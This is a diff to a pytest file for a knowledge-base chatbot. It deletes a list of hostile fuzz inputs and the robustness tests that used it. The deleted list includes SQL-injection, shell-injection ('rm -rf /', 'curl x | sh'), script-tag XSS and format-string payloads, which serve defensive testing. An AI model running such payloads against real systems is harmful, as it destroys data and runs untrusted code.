@@ -13,52 +13,12 @@ from concurrent.futures import ThreadPoolExecutor
 
 import pytest
 from conftest import SAMPLE, run_chatbot
-from hypothesis import HealthCheck, given, settings
-from hypothesis import strategies as st
 from prompt_toolkit.input import create_pipe_input
 from prompt_toolkit.output import DummyOutput
 
 from chatbot import Conversation, KnowledgeError, answer, load_knowledge
 from chatbot.chat import run_terminal
 from chatbot.log import UnansweredLog, group_questions, read_log
-from chatbot.match import MAX_QUESTION_CHARS
-
-HOSTILE = [
-    "", " ", "\t\n\r", "?!?!", "...", "\x00", "\x00" * 100, "\x01\x02\x1b[31mred\x1b[0m", "\x7f\x08\x0c",
-    "\U0001f393\U0001f4b0\U0001f914", "\u0645\u0627 \u0647\u0648 \u0627\u0644\u0631\u0627\u062a\u0628\u061f",
-    "\u202eyralas eht si tahw", "salary \u7d66\u6599 \u0437\u0430\u0440\u043f\u043b\u0430\u0442\u0430",
-    "'; DROP TABLE schools; --", "$(rm -rf /) `reboot` && curl x | sh", "<script>alert(1)</script>",
-    "%s%s%s%n", "{0} {question} {{}}", "\ud800 lone surrogate", "a" * 1_000_000, "tuition at wgu " * 50_000,
-    "salary\x00tuition", "SALARY!!!!!!!!", "1" * 500, "-" * 10_000, "\u00b2", "\u0661\u0662", "\u2460",
-]
-
-
-@pytest.mark.parametrize("question", HOSTILE, ids=range(len(HOSTILE)))
-def test_any_question_gets_a_reply(question, guide_kb):
-    conversation = Conversation(guide_kb)
-    conversation.ask("asdfghjkl")  # numbered suggestions are on offer: "²" must not be taken for one
-    assert conversation.ask(question).text
-    reply = answer(question, guide_kb)
-    assert isinstance(reply.text, str) and reply.text
-    assert 0.0 <= reply.confidence <= 1.0
-    if len(question) > MAX_QUESTION_CHARS:
-        assert f"cut to its first {MAX_QUESTION_CHARS} characters" in reply.text
-
-
-@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
-@given(st.text(alphabet=st.characters(), max_size=3000))
-def test_any_unicode_never_raises(sample_kb, text):
-    conversation = Conversation(sample_kb)
-    for reply in (answer(text, sample_kb), conversation.ask(text), conversation.ask(text[::-1])):
-        assert reply.text and 0.0 <= reply.confidence <= 1.0
-
-
-@pytest.mark.parametrize("value", [None, 42, b"salary", ["salary"], {"q": "salary"}])
-def test_non_strings_are_type_errors(value, seed_kb):
-    with pytest.raises(TypeError, match="question must be a str"):
-        answer(value, seed_kb)
-    with pytest.raises(TypeError, match="question must be a str"):
-        Conversation(seed_kb).ask(value)
 
 
 def test_separate_conversations_never_share_context(guide_kb):
